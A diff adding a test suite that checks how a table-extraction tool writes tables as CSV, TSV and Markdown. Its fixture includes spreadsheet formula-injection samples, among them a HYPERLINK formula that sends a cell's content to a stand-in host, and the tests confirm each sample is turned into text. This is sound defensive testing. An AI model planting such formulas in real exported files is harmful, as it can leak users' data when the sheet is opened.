@@ -1,0 +1,131 @@
+import fs from "node:fs";
+import path from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { spreadsheetText } from "../../../src-main/contract/spreadsheetText.ts";
+import { columnHeadings, gridRows, type ParsedTable, type TableCell, type TableRow } from "../../../src-main/contract/tables.ts";
+import { tableCsv, tableMarkdown, tableTsv } from "../../../src-main/contract/tableText.ts";
+import { gridSize, tableName, tablePages, tableSize } from "../../../src-main/contract/tableWords.ts";
+import { duckdb, sqlPath } from "../../support/duckdbReader.ts";
+import { writeTablePaper } from "../../support/tablePaper.ts";
+import { tempDirForSuite } from "../../support/tempDir.ts";
+
+// Copying a table: the CSV read back by a real CSV reader (DuckDB) gives the cells, with those a
+// spreadsheet would run as formulas made text; TSV pastes into a sheet cell by cell; Markdown has
+// its pipes escaped and the header levels joined.
+
+const cell = (text: string, colSpan = 1, rowSpan = 1): TableCell => ({ text, box: null, colSpan, rowSpan });
+const row = (...cells: TableCell[]): TableRow => ({ kind: "body", cells });
+
+/** Cells that break a naive writer, and cells a spreadsheet would run. */
+const awkward: ParsedTable = {
+  label: "Table 4",
+  caption: "Odd cells | kept",
+  page: 2,
+  pages: [2, 3],
+  boxes: [{ page: 2, x: 0, y: 0, w: 10, h: 10 }],
+  kind: "text",
+  rotated: false,
+  ruling: "grid",
+  header: [row(cell("Item", 1, 2), cell("Effect", 2)), row(cell("OR"), cell("P | adj."))],
+  rows: [
+    row(cell('Smith, "Jr."'), cell("-0.52"), cell("=HYPERLINK(\"http://x?d=\"&A2)")),
+    row(cell("line one\nline two"), cell("+AB"), cell("@SUM(1)")),
+    row(cell("semi;colon"), cell("-"), cell("\ttabbed")),
+    { kind: "subheading", cells: [cell("Subgroup", 3)] },
+    row(cell("Ünïcödé I² (%)"), cell(""), cell("1,024")),
+  ],
+  footnotes: ["a Adjusted for age.", "*P < .05"],
+  doubts: [],
+};
+
+let reader: Awaited<ReturnType<typeof duckdb>>;
+let dir: string;
+let printed: ParsedTable[];
+beforeAll(async () => {
+  reader = await duckdb();
+  dir = tempDirForSuite();
+  printed = await writeTablePaper(path.join(dir, "tables.pdf"));
+});
+afterAll(() => reader.close());
+
+/** The rows DuckDB reads from a file, every value as text ("" for an empty field). */
+async function readBack(text: string, name: string, options: string): Promise<string[][]> {
+  const file = path.join(dir, name);
+  fs.writeFileSync(file, text);
+  const rows = await reader.rows(`SELECT * FROM read_csv(${sqlPath(file)}, header = false, all_varchar = true, auto_detect = false, ${options})`);
+  return rows.map((r) => Object.values(r).map((v) => (v === null ? "" : String(v))));
+}
+
+/** What a spreadsheet cell holds for each grid cell: the text, made safe. */
+const safeGrid = (table: ParsedTable) => [columnHeadings(table), ...gridRows(table.rows)].map((r) => r.map(spreadsheetText));
+
+describe("a table as CSV, TSV and Markdown", () => {
+  it("writes CSV that a CSV reader reads back as the cells: quotes, commas, line breaks and semicolons intact, formulas made text", async () => {
+    const csv = tableCsv(awkward);
+    expect(csv.endsWith("\r\n")).toBe(true);
+    const columns = "columns = {'a': 'VARCHAR', 'b': 'VARCHAR', 'c': 'VARCHAR'}, delim = ',', quote = '\"', escape = '\"', strict_mode = true";
+    const rows = await readBack(csv, "awkward.csv", columns);
+    expect(rows).toEqual(safeGrid(awkward));
+    expect(rows[0]).toEqual(["Item", "Effect / OR", "Effect / P | adj."]);
+    expect(rows[1]).toEqual(['Smith, "Jr."', "-0.52", "'=HYPERLINK(\"http://x?d=\"&A2)"]);
+    expect(rows[2]).toEqual(["line one\nline two", "'+AB", "'@SUM(1)"]);
+    expect(rows[3]).toEqual(["semi;colon", "'-", "'\ttabbed"]);
+    expect(rows[4]).toEqual(["Subgroup", "", ""]);
+  });
+
+  it("writes the generated paper's Table 1 as 24 lines of 12 fields: the header levels in one line, every study's cells", async () => {
+    const table = printed[0]!;
+    const names = Array.from({ length: 12 }, (_, i) => `'c${i}': 'VARCHAR'`).join(", ");
+    const rows = await readBack(tableCsv(table), "table1.csv", `columns = {${names}}, delim = ',', quote = '"', escape = '"', strict_mode = true`);
+    expect(rows).toHaveLength(24);
+    expect(rows[0]).toEqual(["Study", "Year", "Country", "Method", "Cases / n", "Cases / GG", "Cases / GA", "Cases / AA", "Controls / n", "Controls / GG", "Controls / GA", "Controls / AA"]);
+    expect(rows[6]).toEqual(["Pérez-García", "2003", "Spain", "PCR-RFLP", "142", "'-", "'-", "'-", "160", "'-", "'-", "'-"]);
+    expect(rows[13]).toEqual(["Silva, Costa", "2008", "Portugal", "TaqMan", "178", "69", "85", "24", "190", "74", "90", "26"]);
+    expect(rows.map((r) => r[0])).toContain("Asian populations");
+  });
+
+  it("writes TSV that reads back cell by cell, with tabs and line breaks inside a cell as spaces", async () => {
+    const tsv = tableTsv(awkward);
+    const rows = await readBack(tsv, "awkward.tsv", "columns = {'a': 'VARCHAR', 'b': 'VARCHAR', 'c': 'VARCHAR'}, delim = '\t', quote = '', escape = ''");
+    const expected = [columnHeadings(awkward), ...gridRows(awkward.rows)].map((r) => r.map((text) => spreadsheetText(text).replace(/[\t\r\n]+/g, " ")));
+    expect(rows).toEqual(expected);
+    expect(rows[2]![0]).toBe("line one line two");
+    expect(rows[3]![2]).toBe("' tabbed");
+  });
+
+  it("writes Markdown with the caption above, pipes escaped, the header levels joined and footnotes under it", () => {
+    const md = tableMarkdown(awkward);
+    const lines = md.trimEnd().split("\n");
+    expect(lines[0]).toBe("**Table 4.** Odd cells \\| kept");
+    const tableLines = lines.filter((l) => l.startsWith("|"));
+    // A GitHub table row splits at pipes that are not escaped.
+    const cellsOf = (line: string) => line.slice(1, -1).split(/(?<!\\)\|/).map((c) => c.trim().replace(/\\\|/g, "|").replace(/\\\\/g, "\\"));
+    expect(tableLines.map(cellsOf)).toEqual([
+      ["Item", "Effect / OR", "Effect / P | adj."],
+      ["---", "---", "---"],
+      ['Smith, "Jr."', "-0.52", '=HYPERLINK("http://x?d="&A2)'],
+      ["line one line two", "+AB", "@SUM(1)"],
+      ["semi;colon", "-", "tabbed"],
+      ["Subgroup", "", ""],
+      ["Ünïcödé I² (%)", "", "1,024"],
+    ]);
+    expect(md.trimEnd().endsWith("a Adjusted for age.\n\n*P < .05")).toBe(true);
+  });
+
+  it("gives a table with no header an empty header line, and one printed as a picture a line saying its cells cannot be read", () => {
+    expect(tableMarkdown({ ...awkward, label: null, caption: null, header: [], rows: [row(cell("a"), cell("b"))], footnotes: [] })).toBe("|  |  |\n| --- | --- |\n| a | b |\n");
+    expect(tableCsv({ header: [], rows: [row(cell("a"), cell("b"))] })).toBe("a,b\r\n");
+    const image = printed[1]!;
+    expect(tableMarkdown(image)).toBe("**Table 2.** Haplotype frequencies in cases and controls (as printed, a scanned image)\n\n_Printed as a picture: its cells cannot be read._\n");
+    expect(tableCsv(image)).toBe("");
+  });
+
+  it("names and sizes tables in words", () => {
+    expect(tableSize(printed[0]!)).toBe("23 rows × 12 columns");
+    expect(tableSize({ header: [], rows: [row(cell("only"))] })).toBe("1 row × 1 column");
+    expect(gridSize({ header: [["a", "b"]], rows: [["1", "2"]] })).toBe("1 row × 2 columns");
+    expect(tableName({ label: null }, 2)).toBe("Unlabelled table (no. 3)");
+    expect(tablePages(awkward)).toBe("pages 2–3");
+    expect(tablePages(printed[0]!)).toBe("page 1");
+  });
+});
